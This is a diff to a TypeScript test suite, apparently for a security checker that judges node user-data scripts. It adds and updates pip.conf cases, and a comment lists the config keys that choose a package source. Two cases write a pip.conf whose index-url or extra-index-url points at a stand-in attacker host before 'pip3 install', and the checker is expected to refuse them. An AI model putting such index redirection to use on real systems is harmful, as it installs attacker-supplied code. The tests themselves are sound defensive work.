@@ -588,6 +588,24 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
+    // Round 82 fix neighbours (PIP-CONF-HARMLESS, insecure): pip docs "Configuration" (keys are the long options,
+    // `_`/`-` and `=`/`:` alike; configparser): a harmless key beside a source-choosing one keeps nothing.
+    dev(
+        "user data: /etc/pip.conf timeout = 60 and extra-index-url EVIL; pip3 install tenacity; run.py imports",
+        thenImport("dev-py81-etc-pip-conf-extra-index-fix82-rt81p", [
+            ...heredocFile("/etc/pip.conf", ["[global]", "timeout = 60", `extra-index-url = ${EVIL}`]),
+            "pip3 install tenacity",
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "user data: /root/.config/pip/pip.conf [install] index_url: EVIL; pip3 install tenacity; run.py imports",
+        thenImport("dev-py81-root-pip-conf-index-colon-fix82-rt81p", [
+            ...heredocFile("/root/.config/pip/pip.conf", ["[install]", `index_url: ${EVIL}`]),
+            "pip3 install tenacity",
+        ]),
+        REFUSED,
+    ),
 ];
 
 const secure: NodeCase[] = [
@@ -609,22 +627,19 @@ const secure: NodeCase[] = [
         ]),
     ),
     // Secure: /etc/pip.conf with only timeout/disable-pip-version-check (pip docs "Configuration": names from long options).
-    // MISS: (PIP-CONF-HARMLESS) secure refused: "run.py imports tenacity, a module user data did not write". pip docs "Configuration": a file's keys are pip's long option
+    // Was a MISS (fixed in round 82): (PIP-CONF-HARMLESS) secure refused: "run.py imports tenacity, a module user data did not write". pip docs "Configuration": a file's keys are pip's long option
     // names; timeout and disable-pip-version-check choose no index and no file. The pack: pythonCode.ts pythonPipInstalled: any written path ending pip.conf/pip.ini withdraws
     // trust. Fix: read a written
     // pip.conf as configparser does (sections global/install, `=` or `:`, `_`/`-` and case alike) and withdraw trust only
     // for keys that choose where packages come from (index-url, extra-index-url, find-links, no-index, trusted-host,
     // cert, client-cert, proxy, require-hashes off, constraint, requirement, editable, src, target, prefix, root, user,
     // config-file); an unparsable file fails closed.
-    // Still open (round 81): not reached before the deadline; needs a configparser reading of a written pip.conf (keys that choose no source keep trust) shared by pythonPipInstalled and rootWrites.ts, failing closed on anything unreadable.
     dev(
         "user data: /etc/pip.conf [global] timeout = 60; pip3 install tenacity; run.py imports",
         thenImport("dev-py81-etc-pip-conf-timeout-rt81p", [
             ...heredocFile("/etc/pip.conf", ["[global]", "timeout = 60", "disable-pip-version-check = true"]),
             "pip3 install tenacity",
         ]),
-        undefined,
-        true,
     ),
     // Secure: Python docs "-I": PYTHONPATH ignored (implies -E).
     // MISS: (PY-ENV-IGNORED) secure refused: "a root process of the node read /srv/ops (a command it runs: ... (PYTHONPATH))".
@@ -835,7 +850,7 @@ const secure: NodeCase[] = [
         tune("dev-py81-home-root-rt81p", PLAIN, [], "HOME=/root python3 /opt/ops/tune.py"),
     ),
     // Secure: /root/.pip/pip.conf with only a timeout (pip docs "Configuration": timeout is --timeout).
-    // MISS: (PIP-CONF-HARMLESS) secure refused: "user data writes /root/.pip/pip.conf ..., the node's own configuration or
+    // Was a MISS (fixed in round 82): (PIP-CONF-HARMLESS) secure refused: "user data writes /root/.pip/pip.conf ..., the node's own configuration or
     // credentials, which the pack cannot judge". pip docs "Configuration": a file's keys are pip's long option
     // names; timeout and disable-pip-version-check choose no index and no file. The pack: userDataReaders/rootWrites.ts (the "node's own configuration" write
     // refusal) judges /root/.pip/pip.conf unreadable although /etc/pip.conf of the same text is read. Fix: read a written
@@ -843,15 +858,12 @@ const secure: NodeCase[] = [
     // for keys that choose where packages come from (index-url, extra-index-url, find-links, no-index, trusted-host,
     // cert, client-cert, proxy, require-hashes off, constraint, requirement, editable, src, target, prefix, root, user,
     // config-file); an unparsable file fails closed.
-    // Still open (round 81): not reached before the deadline; needs a configparser reading of a written pip.conf (keys that choose no source keep trust) shared by pythonPipInstalled and rootWrites.ts, failing closed on anything unreadable.
     dev(
         "user data: /root/.pip/pip.conf [global] timeout = 60; pip3 install tenacity",
         sh("dev-py81-legacy-pip-conf-timeout-rt81p", [
             ...heredocFile("/root/.pip/pip.conf", ["[global]", "timeout = 60"]),
             "pip3 install tenacity",
         ]),
-        undefined,
-        true,
     ),
     // Round 81 neighbours (HOME-MOVED-CONFIG, secure): a root program writing its own state file (not a dotfile) in
     // the directory a later command has as HOME (FHS 3.0 /var/lib/<app> "State information"); a dotfile written under
@@ -883,6 +895,22 @@ const secure: NodeCase[] = [
         "user data: pip3 install -i HTTPS://PyPI.org:443/simple/ --only-binary=:all: tenacity; run.py imports",
         thenImport("dev-py81-default-index-normalised-fix81", [
             "pip3 install -i HTTPS://PyPI.org:443/simple/ --only-binary=:all: tenacity",
+        ]),
+    ),
+    // Round 82 fix neighbours (PIP-CONF-HARMLESS, secure): pip docs "Configuration": progress_bar (pip(1)
+    // --progress-bar, display only) and disable_pip_version_check spelled with `_` and `:`; the default index named.
+    dev(
+        "user data: /etc/pip.conf [install] progress_bar: off, index-url = https://pypi.org/simple; run.py imports",
+        thenImport("dev-py81-etc-pip-conf-progress-fix82-rt81p", [
+            ...heredocFile("/etc/pip.conf", ["[install]", "progress_bar: off", "index-url = https://pypi.org/simple"]),
+            "pip3 install tenacity",
+        ]),
+    ),
+    dev(
+        "user data: /root/.config/pip/pip.conf disable_pip_version_check = 1; pip3 install tenacity; run.py imports",
+        thenImport("dev-py81-root-pip-conf-version-check-fix82-rt81p", [
+            ...heredocFile("/root/.config/pip/pip.conf", ["[global]", "disable_pip_version_check = 1"]),
+            "pip3 install tenacity",
         ]),
     ),
 ];
